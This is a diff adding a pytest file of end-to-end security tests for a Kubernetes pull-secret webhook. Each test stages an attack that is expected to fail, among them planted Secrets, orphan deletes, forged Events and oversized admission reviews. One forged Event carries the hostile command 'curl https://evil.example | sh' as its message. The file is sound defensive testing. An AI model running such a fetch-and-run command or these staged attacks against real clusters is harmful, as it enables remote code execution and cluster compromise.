@@ -1,0 +1,188 @@
+"""Attacks on the webhook's guarantees by a namespace member, a compromised replica or
+anything that reaches its port, on the real API server (SECURITY.md's threat model).
+Each test is an attack that must fail."""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import json
+import time
+import uuid
+from typing import Any
+
+import pytest
+
+from tests.e2e.stack import Stack
+from tests.e2e.support import (
+    get_json,
+    managed_secrets,
+    ns_name,
+    pod_manifest,
+    record_of,
+    wait_for,
+)
+from tests.support.reviews import make_pod, make_review
+from webhook.pullsecrets import MANAGED_BY, MANAGER
+
+pytestmark = pytest.mark.usefixtures("webhook_logs_on_failure")
+
+
+def _planted(namespace: str, name: str) -> dict[str, Any]:
+    return {
+        "apiVersion": "v1",
+        "kind": "Secret",
+        "type": "kubernetes.io/dockerconfigjson",
+        "metadata": {"name": name, "namespace": namespace, "labels": {MANAGED_BY: MANAGER}},
+        "data": {".dockerconfigjson": base64.b64encode(b'{"auths":{"evil":{}}}').decode()},
+    }
+
+
+def _patched_names(answer: dict[str, Any]) -> list[str]:
+    response = answer["response"]
+    if "patch" not in response:
+        return []
+    ops = json.loads(base64.b64decode(response["patch"]))
+    names: list[str] = []
+    for op in ops:
+        value = op.get("value")
+        if isinstance(value, list):
+            names += [v["name"] for v in value if isinstance(v, dict)]
+        elif isinstance(value, dict) and "name" in value:
+            names.append(value["name"])
+    return names
+
+
+def test_orphan_delete_of_a_managed_secret_is_recreated_within_a_refresh_interval(
+    stack: Stack,
+) -> None:
+    """`kubectl delete secret --cascade=orphan` (anyone who may delete Secrets there):
+    the garbage collector strips the marker's ownerReference instead of deleting the
+    marker. The webhook must notice that too and make the Secret again."""
+    cp = stack.controlplane
+    # Control: an ordinary delete is noticed (so the garbage collector already follows
+    # markers; right after the CRD is installed it may not yet).
+    control = stack.labelled_namespace(ns_name("control"))
+    cp.kubectl(
+        "apply", "-n", control, "-f", "-", input=json.dumps(pod_manifest("p", stack.ecr_image))
+    )
+    [first] = managed_secrets(cp, control)
+    cp.kubectl("delete", "secret", first["metadata"]["name"], "-n", control)
+    wait_for(
+        "the control secret to be re-created",
+        lambda: [
+            s
+            for s in managed_secrets(cp, control)
+            if s["metadata"]["uid"] != first["metadata"]["uid"]
+        ],
+        timeout=90,
+    )
+    ns = stack.labelled_namespace(ns_name("orphan"))
+    cp.kubectl("apply", "-n", ns, "-f", "-", input=json.dumps(pod_manifest("p", stack.ecr_image)))
+    [secret] = managed_secrets(cp, ns)
+    name, uid = secret["metadata"]["name"], secret["metadata"]["uid"]
+    time.sleep(3)  # the garbage collector's graph has seen the new marker
+    cp.kubectl("delete", "secret", name, "-n", ns, "--cascade=orphan")
+
+    def recreated() -> dict[str, Any] | None:
+        found = managed_secrets(cp, ns)
+        return found[0] if found and found[0]["metadata"]["uid"] != uid else None
+
+    try:
+        wait_for(
+            "the orphan-deleted secret to be re-created",
+            recreated,
+            timeout=stack.refresh_interval + 20,
+        )
+    except AssertionError:
+        marker = get_json(cp, "pullsecretmarkers.pull-secret-webhook.io", name, "-n", ns)
+        left = cp.kubectl("get", "secret", name, "-n", ns, "-o", "json", "--ignore-not-found")
+        print("SECRET NOW:", left.stdout[:600] or "<gone>", left.stderr[:300])
+        raise AssertionError(
+            f"{name} deleted with --cascade=orphan is still missing; its marker survived "
+            f"with ownerReferences={marker['metadata'].get('ownerReferences')}; "
+            f"record={record_of(cp, ns, name).get('status')}"
+        ) from None
+
+
+def test_a_replanted_secret_is_never_patched_into_pods(stack: Stack) -> None:
+    """A namespace member deletes the webhook's Secret and plants their own under the
+    same name (one `kubectl replace --force`): no replica may patch it into a pod."""
+    cp = stack.controlplane
+    ns = stack.labelled_namespace(ns_name("replant"))
+    cp.kubectl("apply", "-n", ns, "-f", "-", input=json.dumps(pod_manifest("p", stack.ecr_image)))
+    [secret] = managed_secrets(cp, ns)
+    name = secret["metadata"]["name"]
+    cp.kubectl("replace", "--force", "-f", "-", input=json.dumps(_planted(ns, name)))
+    planted_uid = get_json(cp, "secret", name, "-n", ns)["metadata"]["uid"]
+    answers = []
+    for i, replica in enumerate(stack.replicas):
+        pod = make_pod(stack.ecr_image, namespace=ns, name=f"q{i}")
+        answers.append(stack.post_review(replica, make_review(pod, namespace=ns)))
+    record = record_of(cp, ns, name)
+    used = [a for a in answers if name in _patched_names(a)]
+    assert not used, (
+        f"planted Secret {name} (uid {planted_uid}) patched into pods; record still says "
+        f"{record['status']}"
+    )
+
+
+def test_the_webhook_identity_cannot_delete_a_non_psw_secret(stack: Stack) -> None:
+    """A tenant's own labelled dockerconfigjson Secret that is not named like the webhook's
+    (copied from one, or left by 0.1) is out of the webhook identity's reach."""
+    cp = stack.controlplane
+    ns = stack.labelled_namespace(ns_name("noprefix"))
+    doc = _planted(ns, "team-registry-creds")
+    cp.kubectl("apply", "-f", "-", input=json.dumps(doc))
+    result = stack.as_webhook("delete", "secret", "team-registry-creds", "-n", ns)
+    assert result.returncode != 0, "webhook identity deleted a Secret not named psw-…"
+
+
+def test_the_webhook_identity_cannot_write_events_outside_opted_in_namespaces(
+    stack: Stack,
+) -> None:
+    """A compromised replica cannot write Events outside opted-in namespaces, nor any
+    Event but a warning about one of its own pull secrets."""
+    event = {
+        "apiVersion": "v1",
+        "kind": "Event",
+        "metadata": {"name": f"forged.{uuid.uuid4().hex[:8]}", "namespace": "kube-system"},
+        "involvedObject": {"kind": "Pod", "namespace": "kube-system", "name": "kube-apiserver"},
+        "reason": "SecurityNotice",
+        "message": "run: curl https://evil.example | sh",
+        "type": "Warning",
+    }
+    result = stack.as_webhook("create", "-f", "-", input=json.dumps(event))
+    assert result.returncode != 0, "webhook identity wrote an Event in kube-system"
+
+
+def _post_quietly(stack: Stack, replica: Any, review: dict[str, Any]) -> None:
+    # A refusal (4xx) is fine: the body was still read or refused while in memory.
+    with contextlib.suppress(OSError):
+        stack.post_review(replica, review)
+
+
+def _rss_mib(pid: int, field: str) -> float:
+    with open(f"/proc/{pid}/status") as f:
+        lines = f.read().splitlines()
+    for line in lines:
+        if line.startswith(field + ":"):
+            return int(line.split()[1]) / 1024
+    return 0.0
+
+
+def test_unauthenticated_large_reviews_stay_within_the_replica_memory_limit(stack: Stack) -> None:
+    """manifests/base/deployment.yaml limits a replica to 256Mi: concurrent maximal reviews
+    from anything that reaches the port must not push it past that."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    replica = stack.replicas[0]
+    pid = replica.process.pid
+    pod = make_pod("a", namespace="nowhere", name="big")
+    pod["spec"]["containers"] = [{"image": "a"} for _ in range(6 * 1024 * 1024 // 15)]
+    review = make_review(pod, namespace="nowhere")
+    before = _rss_mib(pid, "VmRSS")
+    with ThreadPoolExecutor(max_workers=4) as pool:
+        list(pool.map(lambda _: _post_quietly(stack, replica, review), range(3)))
+    peak = _rss_mib(pid, "VmHWM")
+    assert peak < 256, f"replica RSS {before:.0f} MiB before, peak {peak:.0f} MiB (limit 256Mi)"
